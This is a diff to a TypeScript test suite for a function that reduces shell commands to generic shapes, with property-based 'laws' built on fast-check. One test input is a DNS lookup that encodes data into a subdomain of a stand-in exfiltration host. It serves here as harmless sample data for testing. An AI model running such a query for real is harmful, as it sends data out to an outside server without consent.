@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { commandShape } from '../../src/core/command-shape.ts';
+import { commandShape, FILE } from '../../src/core/command-shape.ts';
 
 describe('the shape of a command', () => {
   it.each([
@@ -21,7 +21,7 @@ describe('the shape of a command', () => {
       'curl -s -m <n> -x http://<host> http://<host> | head -<n>',
     ],
     ['dig +short 4f2a.data.exfil.example @192.0.2.53', 'dig +short <host> @<host>'],
-    ['python3 /work/scan.py --out results.json 2001:db8::5', 'python<n> <path> --out <path> <host>'],
+    ['python3 /repo/scan.py --out results.json 2001:db8::5', 'python<n> <path> --out <path> <host>'],
     ['kill 1234; cat   /var/log/x\n', 'kill <n>; cat <path>'],
     [
       'docker rm 3f2a90c1d2e4 && git checkout 9fceb02d0ae598e95dc970b74767f19372d61af8',
@@ -45,7 +45,7 @@ describe('the shape of a command', () => {
 
 describe('laws', () => {
   // A name that ends as a file does, as `example.sh`, is taken for one.
-  const domain = fc.domain().filter((name) => !/\.(?:[a-z]|[a-z]{2}|zip|bin|log|java|json|toml|lock)$/.test(name));
+  const domain = fc.domain().filter((name) => !FILE.test(name));
   const host = fc.oneof(fc.ipV4(), domain);
   const number = fc.integer({ min: 0, max: 65_535 });
   const path = fc.stringMatching(/^\/[a-z]{1,8}\/[a-z0-9]{1,8}$/).filter((text) => !text.startsWith('/dev/'));
